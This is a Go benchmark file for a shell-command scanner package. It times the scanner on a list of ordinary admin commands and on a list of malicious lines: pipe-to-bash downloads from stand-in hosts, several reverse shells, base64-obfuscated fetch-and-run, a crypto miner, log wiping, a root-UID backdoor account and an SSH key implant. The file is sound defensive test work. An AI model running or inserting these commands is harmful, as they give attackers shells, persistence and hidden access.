package cmdscan

import "testing"

// ordinaryLines are typical of shell histories, rc files and packaged cron
// jobs: nearly every line a scan reads looks like these.
var ordinaryLines = []string{
	`ls -la`,
	`cd /var/www/html`,
	`git status`,
	`git pull origin main`,
	`sudo systemctl restart nginx`,
	`journalctl -u nginx --since today`,
	`tail -f /var/log/syslog`,
	`vim /etc/nginx/sites-available/default`,
	`docker ps -a`,
	`docker compose up -d --build`,
	`kubectl get pods -n kube-system`,
	`sudo apt-get update && sudo apt-get upgrade -y`,
	`df -h`,
	`free -m`,
	`top`,
	`htop`,
	`ps aux | grep java`,
	`grep -rn "TODO" src/ | wc -l`,
	`tar xzf node_exporter-1.8.2.linux-amd64.tar.gz -C /opt`,
	`wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz`,
	`curl -I https://example.com`,
	`ssh deploy@10.0.0.5`,
	`scp backup.tar.gz admin@backup:/srv/backups/`,
	`mysql -u root -p`,
	`python3 manage.py migrate`,
	`pip install -r requirements.txt`,
	`npm run build`,
	`make -j4 && sudo make install`,
	`find /var/log -name "*.gz" -mtime +30 -delete`,
	`chown -R www-data:www-data /var/www/html`,
	`export PATH="$HOME/bin:$HOME/.local/bin:$PATH"`,
	`alias ll='ls -alF'`,
	`if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi`,
	`[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"`,
	`HISTCONTROL=ignoreboth`,
	`shopt -s checkwinsize`,
	`PS1='${debian_chroot:+($debian_chroot)}\u@\h:\w\$ '`,
	`17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly`,
	`09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi`,
	`ExecStart=/usr/sbin/sshd -D $SSHD_OPTS`,
}

// maliciousLines each match at least one pattern.
var maliciousLines = []string{
	`curl -fsSL http://203.0.113.7/x.sh | bash`,
	`wget -q -O- http://evil.example/a | sh`,
	`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`,
	`nc -e /bin/sh 10.0.0.1 4444`,
	`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f`,
	`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'`,
	`echo Y3VybCBodHRwOi8veC9hIHwgYmFzaA== | base64 -d | bash`,
	`eval "$(curl -s http://x/a)"`,
	`nohup /dev/shm/sshd -D &`,
	`/root/.cache/.sys/update`,
	`./xmrig -o pool.supportxmr.com:3333 -u 4A`,
	`unset HISTFILE; export HISTSIZE=0`,
	`echo > /var/log/wtmp`,
	`useradd -o -u 0 -g 0 -M -s /bin/bash sysadm`,
	`echo ssh-rsa AAAAB3Nz >> /root/.ssh/authorized_keys`,
	`chattr +i /etc/cron.d/sys`,
}

func benchLines(b *testing.B, lines []string) {
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		Scan(lines[i])
		i++
		if i == len(lines) {
			i = 0
		}
	}
}

// BenchmarkScanOrdinary reports the cost of one ordinary line.
func BenchmarkScanOrdinary(b *testing.B) { benchLines(b, ordinaryLines) }

// BenchmarkScanMalicious reports the cost of one line that matches.
func BenchmarkScanMalicious(b *testing.B) { benchLines(b, maliciousLines) }
